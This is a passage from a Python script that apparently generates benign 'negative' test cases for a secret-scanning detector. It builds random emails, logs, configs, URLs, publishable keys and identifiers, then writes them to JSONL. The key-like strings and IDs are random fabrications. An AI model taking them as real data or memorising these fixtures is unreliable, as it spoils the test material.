        lambda c: N(c, 'body', json.dumps({'StackId': f'arn:aws:cloudformation:eu-west-1:{acct()}:stack/{pick(APPS)}/{ruuid()}', 'StackStatus': 'UPDATE_COMPLETE'}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'name': f'operation-{epoch() * 1000}-{rhex(13)}-{rhex(8)}-{rhex(8)}', 'status': 'DONE', 'targetLink': f'https://www.googleapis.com/compute/v1/projects/p/zones/z/instances/{pick(APPS)}'}), 'application/json'),
    ])


def saml_request():
    x = (f'<samlp:AuthnRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_{rhex(40)}" Version="2.0" IssueInstant="{iso()}" '
         f'AssertionConsumerServiceURL="https://app.{pick(CORP)}/saml/acs"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">https://app.{pick(CORP)}</saml:Issuer></samlp:AuthnRequest>')
    return quote(b64(deflate_raw(x.encode())), safe='')


def pb_varint(n):
    out = b''
    while True:
        b = n & 0x7f
        n >>= 7
        if n:
            out += bytes([b | 0x80])
        else:
            return out + bytes([b])


def pb_str(field, s):
    s = s.encode()
    return bytes([(field << 3) | 2]) + pb_varint(len(s)) + s


def grpc_web_text():
    m = pb_str(1, pick(WORDS)) + pb_str(2, lorem_sentence())
    return b64(b'\x00' + struct.pack('>I', len(m)) + m)


def neg_b64benign(cat):
    cycle(cat, 10, [
        lambda c: N(c, 'body', json.dumps({'message': 'docs: update README', 'content': b64(f'# {pick(REPOS)}\n\n{lorem_para()}\n\n## Install\n\n    npm install\n'), 'branch': 'main'}), 'application/json'),
        lambda c: N(c, 'body', f'From: {person()[2]}\r\nTo: {person()[2]}\r\nSubject: weekly numbers\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"\r\n\r\n--x\r\nContent-Type: text/csv; name="weekly.csv"\r\nContent-Transfer-Encoding: base64\r\n\r\n{wrap(b64("week,visits" + chr(10) + "".join(f"{i},{R.randint(100, 999)}" + chr(10) for i in range(1, 9))), 76)}\r\n--x--\r\n', 'message/rfc822'),
        lambda c: N(c, 'body', f'apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: nginx-conf\nbinaryData:\n  mime.types: {b64("types { text/html html; text/css css; application/javascript js; }")}\n', 'application/yaml'),
        lambda c: N(c, 'url', f'https://idp.{pick(CORP)}/sso/saml?SAMLRequest={saml_request()}&RelayState={quote("/dashboard", safe="")}'),
        lambda c: N(c, 'body', json.dumps({'file': 'notes.txt', 'data': b64(lorem_para())}), 'application/json'),
        lambda c: N(c, 'body', grpc_web_text(), 'application/grpc-web-text'),
        lambda c: N(c, 'body', json.dumps({'attachment': 'data:text/plain;base64,' + b64(lorem_sentence())}), 'application/json'),
        lambda c: N(c, 'url', f'https://app.{pick(CORP)}/login?state={b64u(json.dumps({"returnTo": "/settings/profile", "lang": "en"}))}'),
        lambda c: N(c, 'body', json.dumps({'message': {'data': b64(json.dumps({'order_id': R.randint(1000, 99999), 'status': 'shipped'})), 'messageId': rdig(16), 'publishTime': iso(ms=True)}, 'subscription': f'projects/{pick(REPOS)}/subscriptions/orders'}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'Records': [{'kinesis': {'partitionKey': str(R.randint(1, 99)), 'data': b64(json.dumps({'sensor': rhex(6), 'temp': R.randint(10, 40)})), 'sequenceNumber': digits_not_luhn(40, '4')}}]}), 'application/json'),
    ])


def mac():
    return ':'.join(f'{x:02x}' for x in rb(6))


def neg_hexid(cat):
    cycle(cat, 10, [
        lambda c: N(c, 'body', json.dumps({'devices': [{'hostname': f'{pick(WORDS)}-{i}', 'mac': mac(), 'vendor': pick(['Dell', 'Apple', 'Cisco'])} for i in range(4)]}), 'application/json'),
        lambda c: N(c, 'body', ''.join(f'{iso(ms=True)} dhcp: lease 2001:db8:{rhex(4)}:{rhex(4)}::{rhex(3)} to {mac()}\n' for _ in range(3)), 'text/plain'),
        lambda c: N(c, 'body', ':root {\n' + ''.join(f'  --color-{w}: #{rhex(6)};\n' for w in R.sample(WORDS, 6)) + '}\n', 'text/css'),
        lambda c: N(c, 'body', json.dumps({'pins': [{'host': f'api.{pick(CORP)}', 'sha256_fingerprint': ':'.join(f'{x:02X}' for x in rb(32))}]}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'services': ['0000180d-0000-1000-8000-00805f9b34fb', '0000180f-0000-1000-8000-00805f9b34fb'], 'device': mac().upper()}), 'application/json'),
        lambda c: N(c, 'body', f'zone {pick(WORDS)}_zone\n  member pwwn 50:06:01:{rhex(2)}:{rhex(2)}:{rhex(2)}:{rhex(2)}:{rhex(2)}\n  member pwwn 10:00:00:{rhex(2)}:{rhex(2)}:{rhex(2)}:{rhex(2)}:{rhex(2)}\n', 'text/plain'),
        lambda c: N(c, 'url', f'https://mdm.{pick(CORP)}/api/devices/register?mac={quote(mac(), safe="")}&model=T14'),
        lambda c: N(c, 'header', f'X-Device-MAC: {mac()}'),
        lambda c: N(c, 'body', 'Interface  Address\n' + ''.join(f'eth{i}      fe80::{rhex(4)}:{rhex(4)}:{rhex(4)}:{rhex(4)}/64\n' for i in range(3)), 'text/plain'),
        lambda c: N(c, 'body', json.dumps({'eui64': '-'.join(f'{x:02X}' for x in rb(8)), 'lorawan_dev_addr': rhex(8)}), 'application/json'),
    ])


def neg_numeric(cat):
    cycle(cat, 10, [
        lambda c: N(c, 'body', json.dumps({'order_number': digits_not_luhn(16, pick('4567')), 'status': 'shipped'}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'contact': {'phone': f'+1 {rdig(3)} 555 {rs(4, DIG)}', 'fax': f'+49 30 {rdig(8)}'}}), 'application/json'),
        lambda c: N(c, 'url', f'https://www.ups.com/track?tracknum=1Z{rs(6, UP + DIG)}{rs(10, DIG)}&loc=en_US'),
        lambda c: N(c, 'body', f'Invoice {rdig(10)}\nCustomer no. {rdig(8)}\nAmount due: {R.randint(10, 999)}.00 EUR\n', 'text/plain'),
        lambda c: N(c, 'body', json.dumps({'isbn13': '978' + digits_not_luhn(10), 'title': lorem_sentence(2, 4)}), 'application/json'),
        lambda c: N(c, 'body', 'ean,product,qty\n' + ''.join(f'{digits_not_luhn(13, pick("4589"))},{pick(WORDS)},{R.randint(1, 50)}\n' for _ in range(4)), 'text/csv'),
        lambda c: N(c, 'body', json.dumps({'customer_number': ' '.join(digits_not_luhn(16, pick('789'))[i:i + 4] for i in range(0, 16, 4)), 'tier': 'gold'}), 'application/json'),
        lambda c: N(c, 'url', f'https://www.fedex.com/fedextrack/?trknbr={rdig(12)}'),
        lambda c: N(c, 'body', f'Ticket #{rdig(7)} - reference {digits_not_luhn(18, pick("3456"))}\n', 'text/plain'),
        lambda c: N(c, 'body', json.dumps({'amazon_order': f'{rdig(3)}-{rs(7, DIG)}-{rs(7, DIG)}', 'items': R.randint(1, 5)}), 'application/json'),
    ])


def mapbox_pk():
    return 'pk.' + b64u(json.dumps({'u': pick(ORGS), 'a': 'cl' + rs(23, LOW + DIG)}, separators=(',', ':'))) + '.' + rs(22, B64U)


def neg_publishable(cat):
    cycle(cat, 10, [
        lambda c: N(c, 'body', f'const stripe = Stripe("pk_live_51{rs(97)}");\nconst elements = stripe.elements();\n', 'application/javascript'),
        lambda c: N(c, 'url', f'https://api.stripe.com/v1/elements/sessions?key=pk_live_51{rs(97)}&type=payment_intent&locale=en'),
        lambda c: N(c, 'body', json.dumps({'sentry': {'dsn': f'https://{rhex(32)}@o{rdig(6)}.ingest.sentry.io/{rdig(16)}', 'tracesSampleRate': 0.1}}), 'application/json'),
        lambda c: N(c, 'header', f'X-Sentry-Auth: Sentry sentry_version=7, sentry_client=sentry.javascript.browser/7.{R.randint(100, 119)}.0, sentry_key={rhex(32)}'),
        lambda c: N(c, 'url', f'https://api.mapbox.com/styles/v1/mapbox/streets-v12/tiles/256/{R.randint(1, 15)}/{R.randint(1, 9999)}/{R.randint(1, 9999)}@2x?access_token={mapbox_pk()}'),
        lambda c: N(c, 'body', f'<script src="https://www.google.com/recaptcha/api.js?render=6L{rs(38, B64U)}"></script>', 'text/html'),
        lambda c: N(c, 'body', f'NEXT_PUBLIC_CLERK_PUBLISHABLE_KEY=pk_live_{b64("clerk." + pick(CORP) + "$").rstrip("=")}\nNEXT_PUBLIC_APP_URL=https://{pick(CORP)}\n', 'text/plain'),
        lambda c: N(c, 'body', f"posthog.init('phc_{rs(43)}', {{ api_host: 'https://eu.i.posthog.com', person_profiles: 'identified_only' }})\n", 'application/javascript'),
        lambda c: N(c, 'body', json.dumps({'publishableKey': f'pk_test_51{rs(97)}', 'country': 'US'}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'map': {'style': 'mapbox://styles/mapbox/light-v11', 'accessToken': mapbox_pk()}}), 'application/json'),
    ])


def vlq(n):
    v = ((-n) << 1) | 1 if n < 0 else n << 1
    s = ''
    while True:
        d = v & 31
        v >>= 5
        if v:
            d |= 32
        s += B64S[d]
        if not v:
            return s


def mappings(lines):
    return ';'.join(','.join(''.join(vlq(R.randint(-30, 60)) for _ in range(4)) for _ in range(R.randint(3, 12))) for _ in range(lines))


def neg_sourcemap(cat):
    def smap():
        return json.dumps({'version': 3, 'file': f'main.{rhex(8)}.js', 'sources': ['webpack://app/./src/index.tsx', 'webpack://app/./src/App.tsx'],
                           'sourcesContent': ['import App from "./App";\nrender(<App />);\n', 'export default function App() { return <main>Hello</main>; }\n'],
                           'names': ['render', 'App', 'main'], 'mappings': mappings(R.randint(10, 40))})
    cycle(cat, 10, [
        lambda c: N(c, 'body', smap(), 'application/json'),
        lambda c: N(c, 'body', smap(), 'application/json'),
        lambda c: N(c, 'body', smap(), 'application/json', 'gzip'),
        lambda c: N(c, 'body', f'"use strict";function a(b){{return b*2}}console.log(a(21));\n//# sourceMappingURL=data:application/json;charset=utf-8;base64,{b64(smap())}\n', 'application/javascript'),
        lambda c: N(c, 'body', *mp([('name', f'~/static/js/main.{rhex(8)}.js.map')], [('file', f'main.{rhex(8)}.js.map', 'application/octet-stream', smap())])),
        lambda c: N(c, 'body', json.dumps({'version': 3, 'sections': [{'offset': {'line': 0, 'column': 0}, 'map': json.loads(smap())}]}), 'application/json'),
        lambda c: N(c, 'body', f'.btn{{color:red}}\n/*# sourceMappingURL=data:application/json;base64,{b64(json.dumps({"version": 3, "sources": ["src/btn.scss"], "mappings": mappings(8)}))} */\n', 'text/css'),
        lambda c: N(c, 'body', json.dumps({'version': 3, 'sources': ['lib.ts'], 'names': [], 'mappings': mappings(60)}), 'application/json'),
        lambda c: N(c, 'body', *mp([('release', semver())], [('file', 'app.min.js.map', 'application/json', smap())])),
        lambda c: N(c, 'body', smap(), 'application/json', 'deflate'),
    ])


def enc_poly(coords):
    out = []
    pl = pg = 0
    for lat, lng in coords:
        il, ig = round(lat * 1e5), round(lng * 1e5)
        for d in (il - pl, ig - pg):
            v = ~(d << 1) if d < 0 else d << 1
            while v >= 0x20:
                out.append(chr((0x20 | (v & 0x1f)) + 63))
                v >>= 5
            out.append(chr(v + 63))
        pl, pg = il, ig
    return ''.join(out)


def route():
    lat, lng = R.uniform(-40, 60), R.uniform(-120, 140)
    pts = []
    for _ in range(R.randint(15, 60)):
        lat += R.uniform(-0.01, 0.01)
        lng += R.uniform(-0.01, 0.01)
        pts.append((lat, lng))
    return enc_poly(pts)


def neg_polyline(cat):
    cycle(cat, 10, [
        lambda c: N(c, 'body', json.dumps({'routes': [{'summary': 'I-80 W', 'overview_polyline': {'points': route()}, 'legs': [{'distance': {'value': R.randint(1000, 90000)}}]}], 'status': 'OK'}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'name': 'Morning Ride', 'distance': R.randint(5000, 90000), 'map': {'id': 'a' + rdig(10), 'summary_polyline': route()}}), 'application/json'),
        lambda c: N(c, 'url', f'https://maps.googleapis.com/maps/api/staticmap?size=600x300&path=weight:3%7Ccolor:blue%7Cenc:{quote(route(), safe="")}'),
        lambda c: N(c, 'body', json.dumps({'code': 'Ok', 'routes': [{'geometry': route(), 'distance': R.randint(100, 9000) / 1.0, 'duration': R.randint(60, 3600) / 1.0}]}), 'application/json'),
        lambda c: N(c, 'url', f'https://api.{pick(CORP)}/v1/routes/preview?polyline={quote(route(), safe="")}&mode=bike'),
        lambda c: N(c, 'body', json.dumps({'trip_id': ruuid(), 'encoded_path': route(), 'vehicle': 'scooter'}), 'application/json'),
        lambda c: N(c, 'url', f'https://api.mapbox.com/styles/v1/mapbox/streets-v12/static/path-5+f44-0.5({quote(route(), safe="")})/auto/500x300'),
        lambda c: N(c, 'body', urlencode([('activity', 'run'), ('polyline', route())]), 'application/x-www-form-urlencoded'),
        lambda c: N(c, 'url', f'https://router.{pick(CORP)}/route/v1/driving/polyline({quote(route(), safe="")})?overview=false'),
        lambda c: N(c, 'body', json.dumps({'segments': [{'points': route()} for _ in range(3)]}), 'application/json', 'gzip'),
    ])


def neg_log(cat):
    ip = lambda: f'10.{R.randint(0, 255)}.{R.randint(0, 255)}.{R.randint(1, 254)}'
    cycle(cat, 10, [
        lambda c: N(c, 'body', ''.join(f'{ip()} - - [{rfc2822()}] "GET /api/items?page={R.randint(1, 9)} HTTP/1.1" 200 {R.randint(200, 9000)} "-" "{ua()}"\n' for _ in range(5)), 'text/plain'),
        lambda c: N(c, 'body', ''.join(json.dumps({'level': 'info', 'ts': iso(ms=True), 'msg': 'request', 'method': 'GET', 'path': '/v1/orders', 'status': 200, 'latency_ms': R.randint(2, 300), 'request_id': ruuid()}) + '\n' for _ in range(5)), 'application/x-ndjson'),
        lambda c: N(c, 'body', f'LAST SEEN   TYPE      REASON      OBJECT                         MESSAGE\n2m          Normal    Scheduled   pod/{pick(APPS)}-{rs(10, LOW + DIG)}-{rs(5, LOW + DIG)}   Successfully assigned {pick(ENVS)}/{pick(APPS)} to node-{R.randint(1, 9)}\n', 'text/plain'),
        lambda c: N(c, 'body', f'Exception in thread "main" java.lang.NullPointerException: Cannot invoke "String.length()" because "name" is null\n\tat com.acme.orders.Service.handle(Service.java:{R.randint(10, 400)})\n\tat com.acme.orders.Main.main(Main.java:12)\n', 'text/plain'),
        lambda c: N(c, 'body', 'Traceback (most recent call last):\n  File "/app/worker.py", line 88, in run\n    total = sum(item["price"] for item in cart)\nKeyError: \'price\'\n', 'text/plain'),
        lambda c: N(c, 'body', f'added {R.randint(100, 1500)} packages, and audited {R.randint(100, 1600)} packages in {R.randint(2, 60)}s\n\n{R.randint(10, 200)} packages are looking for funding\n  run `npm fund` for details\n\nfound 0 vulnerabilities\n', 'text/plain'),
        lambda c: N(c, 'body', ''.join(f'{iso(ms=True)} INFO  auth: token refreshed for user_id={R.randint(1, 99999)} expires_in=3600\n{iso(ms=True)} INFO  auth: password reset email sent to user_id={R.randint(1, 99999)}\n' for _ in range(2)), 'text/plain'),
        lambda c: N(c, 'body', f'##[group]Run actions/checkout@v4\nSyncing repository: {pick(ORGS)}/{pick(REPOS)}\nFetching the repository\n[command]/usr/bin/git -c protocol.version=2 fetch --no-tags --prune --depth=1 origin +{sha40()}:refs/remotes/origin/main\n##[endgroup]\n', 'text/plain'),
        lambda c: N(c, 'body', f'panic: runtime error: index out of range [{R.randint(3, 9)}] with length {R.randint(1, 3)}\n\ngoroutine 1 [running]:\nmain.parse(...)\n\t/src/main.go:{R.randint(10, 99)} +0x1d\n', 'text/plain'),
        lambda c: N(c, 'body', ''.join(f'{rfc2822()} {pick(["web-1", "web-2"])} systemd[1]: Started {pick(APPS)}.service.\n' for _ in range(3)), 'text/plain'),
    ])


def neg_csv(cat):
    cycle(cat, 10, [
        lambda c: N(c, 'body', 'region,quarter,revenue\n' + ''.join(f'{r},Q{q},{R.randint(10000, 999999)}\n' for r in ['EMEA', 'APAC', 'NA'] for q in (1, 2)), 'text/csv'),
        lambda c: N(c, 'body', 'device,ts,temp\n' + ''.join(f'{rhex(12)},{epoch()},{R.randint(100, 400) / 10}\n' for _ in range(6)), 'text/csv'),
        lambda c: N(c, 'body', 'sku,name,stock\n' + ''.join(f'{rs(3, UP)}-{rs(5, DIG)},{pick(WORDS)} {pick(["lamp", "chair", "desk"])},{R.randint(0, 400)}\n' for _ in range(6)), 'text/csv'),
        lambda c: N(c, 'body', 'metric,p50,p95,p99\n' + ''.join(f'{m},{R.randint(5, 50)},{R.randint(50, 200)},{R.randint(200, 900)}\n' for m in ['api', 'db', 'cache']), 'text/csv'),
        lambda c: N(c, 'body', 'respondent,score,comment\n' + ''.join(f'{i},{R.randint(1, 10)},"{lorem_sentence(3, 8)}"\n' for i in range(5)), 'text/csv'),
        lambda c: N(c, 'body', 'flight,from,to,dep\n' + ''.join(f'{rs(2, UP)}{R.randint(100, 9999)},{rs(3, UP)},{rs(3, UP)},{iso()}\n' for _ in range(5)), 'text/csv'),
        lambda c: N(c, 'body', 'commit,author,additions,deletions\n' + ''.join(f'{rhex(40)},{pick(USERS)},{R.randint(0, 500)},{R.randint(0, 300)}\n' for _ in range(5)), 'text/csv'),
        lambda c: N(c, 'body', 'variant,visitors,conversions\nA,' + f'{R.randint(1000, 9999)},{R.randint(10, 500)}\nB,{R.randint(1000, 9999)},{R.randint(10, 500)}\n', 'text/csv'),
        lambda c: N(c, 'body', 'upc,title,price\n' + ''.join(f'{rdig(12)},{pick(WORDS).capitalize()} {pick(["Tea", "Soap", "Socks"])},{R.randint(1, 40)}.99\n' for _ in range(5)), 'text/csv', 'gzip'),
        lambda c: N(c, 'body', 'team,member,role\n' + ''.join(f'{pick(["platform", "data", "web"])},{pick(USERS).capitalize()},{pick(["engineer", "lead", "pm"])}\n' for _ in range(6)), 'text/csv'),
    ])


def neg_search(cat):
    q = lambda s: quote_plus(s)
    cycle(cat, 10, [
        lambda c: N(c, 'url', f'https://www.google.com/search?q={q("how to rotate aws access keys safely")}&hl=en&source=hp'),
        lambda c: N(c, 'url', f'https://www.bing.com/search?q={q("github personal access token expired what to do")}&form=QBLH'),
        lambda c: N(c, 'url', f'https://duckduckgo.com/?q={q("python requests bearer token header example")}&ia=web'),
        lambda c: N(c, 'url', f'https://stackoverflow.com/search?q={q("[postgresql] password authentication failed for user")}'),
        lambda c: N(c, 'url', f'https://en.wikipedia.org/w/index.php?search={q("Luhn algorithm")}&title=Special%3ASearch'),
        lambda c: N(c, 'url', f'https://github.com/search?q={q("password reset flow language:TypeScript")}&type=code'),
        lambda c: N(c, 'url', f'https://www.youtube.com/results?search_query={q("jwt explained in 5 minutes")}'),
        lambda c: N(c, 'url', f'https://www.amazon.com/s?k={q("usb c hub 4k hdmi")}&ref=nb_sb_noss'),
        lambda c: N(c, 'url', f'https://www.npmjs.com/search?q={q("secret scanning")}'),
        lambda c: N(c, 'url', f'https://pypi.org/search/?q={q("api key management")}&o='),
    ])


def neg_html(cat):
    cycle(cat, 10, [
        lambda c: N(c, 'body', f'<!doctype html><html><head><meta http-equiv="Content-Security-Policy" content="script-src \'nonce-{b64(rb(16))}\'"><script nonce="{b64(rb(16))}">window.__APP__={{}}</script></head><body></body></html>', 'text/html'),
        lambda c: N(c, 'body', f'<div class="css-{rs(7, LOW + DIG)} e{rs(6, LOW + DIG)}0"><span class="css-{rs(6, LOW + DIG)}">{lorem_sentence()}</span></div>', 'text/html'),
        lambda c: N(c, 'body', f'<script src="https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/js/bootstrap.bundle.min.js" integrity="sha384-{b64(rb(48))}" crossorigin="anonymous"></script>', 'text/html'),
        lambda c: N(c, 'body', f'<html><body><div id="__next" data-reactroot=""><main>{lorem_para(2)}</main></div><script id="__NEXT_DATA__" type="application/json">{json.dumps({"buildId": rs(21, B64U), "page": "/", "props": {}})}</script></body></html>', 'text/html'),
        lambda c: N(c, 'body', f'<script type="application/ld+json">{json.dumps({"@context": "https://schema.org", "@type": "Product", "name": pick(WORDS).capitalize(), "sku": rs(8, UP + DIG), "offers": {"price": R.randint(5, 500), "priceCurrency": "USD"}})}</script>', 'text/html'),
        lambda c: N(c, 'body', f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path id="p-{rhex(8)}" d="M12 2L2 7l10 5 10-5-10-5z"/></svg>', 'image/svg+xml'),
        lambda c: N(c, 'body', f'<form method="post" action="/search"><input type="search" name="q"><input type="hidden" name="lang" value="en"></form><p>{lorem_sentence()}</p>', 'text/html'),
        lambda c: N(c, 'body', f'<link rel="preload" href="/_next/static/media/{rhex(20)}-s.p.woff2" as="font" crossorigin><link rel="stylesheet" href="/_next/static/css/{rhex(16)}.css">', 'text/html'),
        lambda c: N(c, 'body', f'<video poster="https://i.ytimg.com/vi/{rs(11, B64U)}/maxresdefault.jpg"><source src="/media/{rhex(12)}.mp4" type="video/mp4"></video>', 'text/html'),
        lambda c: N(c, 'body', f'<table><tr><th>ID</th><th>Status</th></tr>' + ''.join(f'<tr><td>{rhex(8)}</td><td>{pick(["ok", "pending"])}</td></tr>' for _ in range(4)) + '</table>', 'text/html', 'gzip'),
    ])


def neg_email(cat):
    def dkim():
        d = pick(CORP)
        return (f'DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d}; s=selector1; h=from:to:subject:date:message-id;\r\n'
                f' bh={b64(rb(32))};\r\n b={wrap(b64(rb(256)), 70).replace(chr(10), chr(13) + chr(10) + " ")}\r\n')
    hdr = lambda s: f'From: {person()[2]}\r\nTo: {person()[2]}\r\nSubject: {s}\r\nDate: {rfc2822()}\r\nMessage-ID: <{rs(32, LOW + DIG)}@mail.{pick(CORP)}>\r\n'
    cycle(cat, 10, [
        lambda c: N(c, 'body', dkim() + hdr('Team offsite') + f'\r\n{lorem_para()}\r\n', 'message/rfc822'),
        lambda c: N(c, 'body', hdr('Weekly digest') + f'ARC-Seal: i=1; a=rsa-sha256; t={epoch()}; cv=none; d=google.com; s=arc-20160816;\r\n b={b64(rb(128))}\r\nMIME-Version: 1.0\r\nContent-Type: text/plain\r\n\r\n{lorem_para()}\r\n', 'message/rfc822'),
        lambda c: N(c, 'body', hdr('Your receipt') + f'\r\nOrder {rdig(3)}-{rs(7, DIG)}-{rs(7, DIG)}\r\nPaid with Visa ending in {rs(4, DIG)}\r\nTotal: ${R.randint(5, 300)}.{rs(2, DIG)}\r\n', 'message/rfc822'),
        lambda c: N(c, 'body', hdr('Invitation: Sprint planning') + f'Content-Type: text/calendar; method=REQUEST\r\n\r\nBEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nUID:{rs(26, LOW + DIG)}@google.com\r\nDTSTART:{iso().replace("-", "").replace(":", "")}\r\nSUMMARY:Sprint planning\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n', 'message/rfc822'),
        lambda c: N(c, 'body', json.dumps({'from': {'email': f'news@{pick(CORP)}'}, 'personalizations': [{'to': [{'email': person()[2]}]}], 'subject': 'Product update', 'content': [{'type': 'text/html', 'value': f'<p>{lorem_para(2)}</p>'}]}), 'application/json'),
        lambda c: N(c, 'body', hdr('Re: build failing') + f'In-Reply-To: <{rs(20, LOW + DIG)}@github.com>\r\nReferences: <{rs(20, LOW + DIG)}@github.com>\r\n\r\nFixed in {rhex(7)}, thanks!\r\n', 'message/rfc822'),
        lambda c: N(c, 'body', hdr('Newsletter') + f'MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary="{rs(28, LOW + DIG)}"\r\n\r\n{lorem_para()}\r\n', 'message/rfc822'),
        lambda c: N(c, 'body', dkim() + hdr('Shipping confirmation') + f'\r\nYour package is on the way. Tracking: 1Z{rs(6, UP + DIG)}{rs(10, DIG)}\r\n', 'message/rfc822'),
        lambda c: N(c, 'body', hdr('Out of office') + f'Auto-Submitted: auto-replied\r\nX-Autoreply: yes\r\n\r\nI am out until {iso()[:10]}.\r\n', 'message/rfc822'),
        lambda c: N(c, 'body', hdr('Minutes') + f'X-MS-Exchange-Organization-Network-Message-Id: {ruuid()}\r\nThread-Index: A{b64(rb(21))}\r\n\r\n{lorem_para(3)}\r\n', 'message/rfc822'),
    ])


CROCK = '0123456789ABCDEFGHJKMNPQRSTVWXYZ'


def neg_ulid(cat):
    ulid = lambda: pick('01') + rs(25, CROCK)
    cycle(cat, 10, [
        lambda c: N(c, 'body', json.dumps({'events': [{'id': ulid(), 'type': pick(['created', 'updated'])} for _ in range(4)]}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'guild_id': '1' + rs(18, DIG), 'channel_id': '1' + rs(18, DIG), 'message_id': '1' + rs(18, DIG)}), 'application/json'),
        lambda c: N(c, 'url', f'https://x.com/{pick(USERS)}/status/1{rs(18, DIG)}'),
        lambda c: N(c, 'url', f'https://api.{pick(CORP)}/v1/objects/{rs(27)}'),
        lambda c: N(c, 'body', json.dumps({'shortId': rs(21, B64U), 'url': f'https://www.{pick(CORP)}/p/{pick(WORDS)}'}), 'application/json'),
        lambda c: N(c, 'url', f'https://cloud.mongodb.com/v2/{rhex(24)}#/clusters/detail/{pick(APPS)}'.split('#')[0]),
        lambda c: N(c, 'body', json.dumps({'-N' + rs(18, B64U): {'text': lorem_sentence(), 'ts': epoch() * 1000}}), 'application/json'),
        lambda c: N(c, 'body', json.dumps({'id': pick(LOW) + rs(23, LOW + DIG), 'title': lorem_sentence(2, 4)}), 'application/json'),
        lambda c: N(c, 'url', f'https://www.instagram.com/p/{rs(11, B64U)}/?img_index=1'),
        lambda c: N(c, 'header', f'X-Trace-ULID: {ulid()}'),
    ])


def neg_config(cat):
    cycle(cat, 12, [
        lambda c: N(c, 'body', 'auth:\n  token_ttl_seconds: 3600\n  refresh_token_ttl_days: 30\n  password_min_length: 12\n  password_require_symbols: true\n  api_key_header: X-API-Key\n', 'application/yaml'),
        lambda c: N(c, 'body', 'env:\n  - name: DB_PASSWORD\n    valueFrom:\n      secretKeyRef:\n        name: db-credentials\n        key: password\n  - name: LOG_LEVEL\n    value: info\n', 'application/yaml'),
        lambda c: N(c, 'body', f'spring.security.oauth2.client.provider.okta.issuer-uri=https://{pick(ORGS)}.okta.com/oauth2/default\nspring.security.oauth2.client.registration.okta.scope=openid,profile\nserver.port=8443\n', 'text/plain'),
        lambda c: N(c, 'body', 'server {\n    listen 443 ssl;\n    ssl_certificate /etc/ssl/certs/site.crt;\n    ssl_certificate_key /etc/ssl/private/site.key;\n    location / { proxy_pass http://app:8080; }\n}\n', 'text/plain'),
        lambda c: N(c, 'body', 'data "aws_secretsmanager_secret_version" "db" {\n  secret_id = "prod/db/credentials"\n}\n\nlocals {\n  db_creds = jsondecode(data.aws_secretsmanager_secret_version.db.secret_string)\n}\n', 'text/plain'),
        lambda c: N(c, 'body', 'services:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_PASSWORD_FILE: /run/secrets/db_password\n    secrets:\n      - db_password\nsecrets:\n  db_password:\n    file: ./db_password.txt\n', 'application/yaml'),
        lambda c: N(c, 'body', 'registry=https://registry.npmjs.org/\nsave-exact=true\nengine-strict=true\n', 'text/plain'),
        lambda c: N(c, 'body', f'PORT=8080\nLOG_LEVEL=debug\nFEATURE_NEW_CHECKOUT=true\nPASSWORD_RESET_URL=https://app.{pick(CORP)}/reset\nSESSION_COOKIE_NAME=sid\nTOKEN_ISSUER=https://auth.{pick(CORP)}\n', 'text/plain'),
        lambda c: N(c, 'body', 'path "secret/data/app/*" {\n  capabilities = ["read", "list"]\n}\n\npath "auth/token/renew-self" {\n  capabilities = ["update"]\n}\n', 'text/plain'),
        lambda c: N(c, 'body', json.dumps({'Version': '2012-10-17', 'Statement': [{'Effect': 'Allow', 'Action': ['secretsmanager:GetSecretValue'], 'Resource': f'arn:aws:secretsmanager:us-east-1:{rdig(12)}:secret:prod/api-*'}]}, indent=2), 'application/json'),
        lambda c: N(c, 'body', 'PasswordAuthentication no\nPubkeyAuthentication yes\nPermitRootLogin prohibit-password\nAuthorizedKeysFile .ssh/authorized_keys\n', 'text/plain'),
        lambda c: N(c, 'body', '[security]\nsecret_scanning = true\nmask_secrets_in_logs = true\napi_token_rotation_days = 90\n\n[auth]\nprovider = "oidc"\nclient_id_env = "OIDC_CLIENT_ID"\nclient_secret_env = "OIDC_CLIENT_SECRET"\n', 'application/toml'),
    ])


NEG_BUILDERS = [
    ('uuid', neg_uuid), ('content-hash', neg_content_hash), ('git-sha', neg_git_sha), ('hashed-asset-path', neg_hashed_asset),
    ('cdn-url', neg_cdn), ('pagination-cursor', neg_cursor), ('cloud-document-id', neg_docid), ('base64-image', neg_b64img),
    ('tracking-params', neg_tracking), ('benign-hostname', neg_hostname), ('token-documentation', neg_docs),
    ('placeholder-credential', neg_placeholder), ('redacted-secret', neg_redacted), ('public-key', neg_pubkey),
    ('checksum', neg_checksum), ('version-string', neg_version), ('timestamp', neg_timestamp), ('lorem-text', neg_lorem),
    ('compressed-benign-body', neg_compressed), ('source-code', neg_code), ('analytics-event', neg_analytics),
    ('oauth-authorize-request', neg_oauth), ('trace-context-header', neg_trace), ('cloud-resource-id', neg_cloudres),
    ('base64-benign-content', neg_b64benign), ('hex-identifier', neg_hexid), ('numeric-identifier', neg_numeric),
    ('publishable-key', neg_publishable), ('source-map', neg_sourcemap), ('encoded-polyline', neg_polyline),
    ('benign-log', neg_log), ('benign-csv', neg_csv), ('search-query-url', neg_search), ('html-page', neg_html),
    ('benign-email', neg_email), ('ulid-snowflake-id', neg_ulid), ('benign-config', neg_config),
]


def build_negatives():
    for cat, fn in NEG_BUILDERS:
        fn(cat)
    return NEG


# ----------------------------------------------------------------------------
# output
# ----------------------------------------------------------------------------
KEY_ORDER = ['id', 'label', 'expect', 'where', 'content_type', 'content_encoding', 'text', 'base64']


def write_jsonl(path, cases, prefix):
    R.shuffle(cases)
    with open(path, 'w', encoding='utf-8', newline='\n') as f:
        for i, c in enumerate(cases, 1):
            c['id'] = f'{prefix}{i:04d}'
